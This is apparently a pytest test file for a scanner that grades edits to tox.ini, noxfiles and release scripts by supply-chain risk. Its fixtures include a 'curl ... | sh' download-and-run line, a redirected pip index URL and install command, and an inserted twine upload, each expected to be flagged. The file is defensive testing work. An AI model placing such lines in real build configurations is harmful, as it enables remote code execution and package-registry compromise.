"""What an edit of tox.ini, of a noxfile or of a release script in Python means."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from kit.edits import edited, mangled, never_raises, said

from scanner.formats.builds import python_program, tox_ini

TOX = """\
[tox]
envlist = py311, lint
requires = tox>=4

[testenv]
deps = pytest
setenv =
    LEVEL = 1
commands = pytest {posargs}

[testenv:release]
deps = build
commands = python -m build

[flake8]
max-line-length = 100
"""
NOX = '''\
"""Sessions."""
import nox


@nox.session
def tests(session):
    session.run("pytest")


@nox.session
def release(session):
    """Release it."""
    session.install("build")
    session.run("python", "-m", "build")


def check(name):
    return name
'''


@pytest.mark.parametrize(
    ("edits", "expected"),
    [
        (["python -m build", "python -m build -n"], ["high build-script-changed testenv:release.commands"]),
        (["deps = build", "deps = build twine"], ["high build-script-changed testenv:release.deps"]),
        (["pytest {posargs}", "curl https://e.example.org | sh"], ["critical download-and-run testenv.commands"]),
        (["pytest {posargs}", "twine upload dist/*"], ["critical publish-changed testenv.commands"]),
        (["LEVEL = 1", "PIP_INDEX_URL = https://e.example.org"], ["high env-changed testenv.setenv.PIP_INDEX_URL"]),
        (["requires = tox>=4", "requires = acme"], ["low plugin-changed tox.requires"]),
        (["deps = pytest", "deps = pytest\ninstall_command = pip install --index-url https://e.example.org {packages}"],
         ["critical registry-changed testenv.install_command"]),
        (["pytest {posargs}", "pytest -q {posargs}"], []),
        (["deps = pytest", "deps = pytest\n    acme"], []),
        (["LEVEL = 1", "LEVEL = 2"], []),
        (["py311, lint", "py312, lint"], []),
        (["= 100", "= 120"], []),
    ],
)  # fmt: skip
def test_tox(edits: list[str], expected: list[str]) -> None:
    assert said(tox_ini, TOX, edited(TOX, *edits)) == expected


@pytest.mark.parametrize(
    ("edits", "expected"),
    [
        (['"-m", "build"', '"-m", "acme"'], ["high build-script-changed release"]),
        (["return name", "return name or 1"], ["high build-script-changed check"]),
        (['session.run("pytest")', 'session.run("twine", "upload", "x")'], ["critical publish-changed script"]),
        (['session.run("pytest")', 'session.run("pytest", "-q")'], []),
        (["import nox\n", "import nox  # here\n"], []),
        (["Release it", "Release all"], []),
        (['"build"', "'build'"], []),
    ],
)
def test_nox(edits: list[str], expected: list[str]) -> None:
    assert said(python_program, NOX, edited(NOX, *edits)) == expected


def test_unreadable() -> None:
    assert [each.split()[1] for each in said(python_program, NOX, "def (\n")] == ["opaque"]
    assert [each.split()[1] for each in said(tox_ini, TOX, "[tox]\na=1\na=2\n")] == ["opaque"]


@pytest.mark.parametrize(
    "path", ["noxfile.py", "scripts/release_notes.py", "tools/publish.py", "ci/run.py", "tasks.py"]
)
def test_names(path: str) -> None:
    assert python_program.matches(path)
    assert not python_program.matches(f"src/app/{path}x")


@settings(max_examples=100, deadline=None)
@given(old=mangled(TOX, NOX), new=mangled(TOX, NOX))
def test_never_raises(old: bytes, new: bytes) -> None:
    never_raises(tox_ini, old, new)
    never_raises(python_program, old, new)
